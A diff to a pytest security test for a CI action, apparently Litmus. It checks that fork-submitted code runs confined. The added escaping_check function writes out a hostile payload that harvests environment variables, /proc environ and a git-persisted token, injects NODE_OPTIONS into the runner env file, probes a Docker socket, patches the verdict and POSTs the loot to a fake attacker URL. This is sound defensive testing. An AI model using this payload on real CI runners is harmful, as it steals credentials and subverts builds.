@@ -234,6 +234,118 @@ def test_allow_fork_code_is_the_explicit_opt_out(tmp_path, fake_github, target):
     assert "allow-fork-code is true" in log
 
 
+PERSISTED_TOKEN = "ghs_persistedbycheckout_4242abcd"
+
+
+@pytest.fixture
+def open_root():
+    """A folder others may read, as a runner's workspace is (tmp_path is private to root): a worker that
+    merely ran as another uid could read `.git/config` here."""
+    import shutil
+    import tempfile
+
+    root = Path(tempfile.mkdtemp(prefix="litmus-open-"))
+    root.chmod(0o755)
+    yield root
+    shutil.rmtree(root, ignore_errors=True)
+
+
+@pytest.fixture
+def docker_socket(open_root):
+    """A fake Docker socket, root's only (as /var/run/docker.sock is root's and the docker group's): records
+    every connection."""
+    import socket
+    import threading
+
+    path = open_root / "docker.sock"
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(str(path))
+    path.chmod(0o600)
+    server.listen()
+    connections: list[bytes] = []
+
+    def accept() -> None:
+        while True:
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                return
+            with connection:
+                connection.settimeout(2)
+                try:
+                    connections.append(connection.recv(4096))
+                except OSError:
+                    connections.append(b"")
+
+    threading.Thread(target=accept, daemon=True).start()
+    yield path, connections
+    server.close()
+
+
+def escaping_check(attacker_url: str, git_config: Path, env_file: Path, docker: Path) -> str:
+    """A python check that reaches for everything a process on the runner could: it reports what it got to
+    the attacker, tries to write the runner's env file, and patches Litmus's verdict, then claims a pass."""
+    return textwrap.dedent(f"""\
+        import json, os, socket, urllib.request
+
+        def status_is_delivered(response, context):
+            got = {{"environ": {{k: v for k, v in os.environ.items() if k.startswith(("INPUT_", "ACTIONS_"))}}}}
+            def attempt(name, how):
+                try:
+                    got[name] = repr(how())
+                except BaseException as exc:
+                    got[name] = "refused: " + repr(exc)
+            attempt("parent_environ", lambda: open(f"/proc/{{os.getppid()}}/environ", "rb").read().decode("latin-1"))
+            attempt("git_config", lambda: open({str(git_config)!r}).read())
+            attempt("github_env", lambda: open({str(env_file)!r}, "a").write("NODE_OPTIONS=--require /tmp/pwn.js\\n"))
+            def docker():
+                client = socket.socket(socket.AF_UNIX)
+                client.connect({str(docker)!r})
+                client.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
+            attempt("docker", docker)
+            def patch():
+                import litmus.run.runner as runner
+                runner.failed_by = lambda *args, **kwargs: False
+            attempt("patch", patch)
+            attempt("report", lambda: urllib.request.urlopen(urllib.request.Request(
+                {attacker_url!r}, data=json.dumps(got).encode())))
+            return True
+        """)
+
+
+def test_an_allowed_fork_check_runs_confined(open_root, docker_socket, fake_github, attacker, target):
+    """Issue 20's attack 1: with `allow-fork-code: true` the fork's check runs, in the worker: it gets no
+    credential (environment, the parent's /proc environ, the token checkout persisted in .git/config),
+    writes no file-command file, reaches no Docker socket, and cannot change the verdict."""
+    docker, connections = docker_socket
+    workspace, main_sha = make_repository(open_root)
+    git(workspace, "config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {PERSISTED_TOKEN}")
+    env_file = open_root / "runner" / "env"
+    suite = SUITE.replace("expected: 200", "expected: 201")  # a failing check the patch would hide
+    head = fork_commit(workspace, {
+        "probes/orders.yaml": suite,
+        "probes/checks/order.py": escaping_check(attacker.url("/steal"), workspace / ".git" / "config", env_file,
+                                                 docker)})
+    fake_github.state.load_git(workspace, branches=["main"])
+    event = pull_request_target_event(open_root / "event.json", head, main_sha)
+
+    code, log, outputs = run_action(workspace, event, fake_github.url, base_url=target.base_url,
+                                    allow_fork_code="true")
+
+    (report,) = [json.loads(r.body) for r in attacker.requests]  # the check ran, and said what it got
+    assert report["environ"] == {}
+    for attempt in ("parent_environ", "git_config", "github_env", "docker"):
+        assert report[attempt].startswith("refused: "), (attempt, report[attempt])
+    stolen = json.dumps(report)
+    assert PERSISTED_TOKEN not in stolen
+    assert_no_credential_in("\n".join((stolen, log, arrived(target))))
+    assert env_file.read_text() == "" and connections == []
+    python = next(a for a in results(workspace)["suites"][0]["flow_runs"][0]["steps"][0]["assertions"]
+                  if a["type"] == "python")
+    assert python["status"] == "passed", python
+    assert code == 1 and outputs["verdict"] == "failed", log  # the status check still fails the run
+
+
 def test_an_api_error_is_untrusted(tmp_path, fake_github, target):
     workspace, main_sha = make_repository(tmp_path)
     fake_github.state.load_git(workspace, branches=["main"])
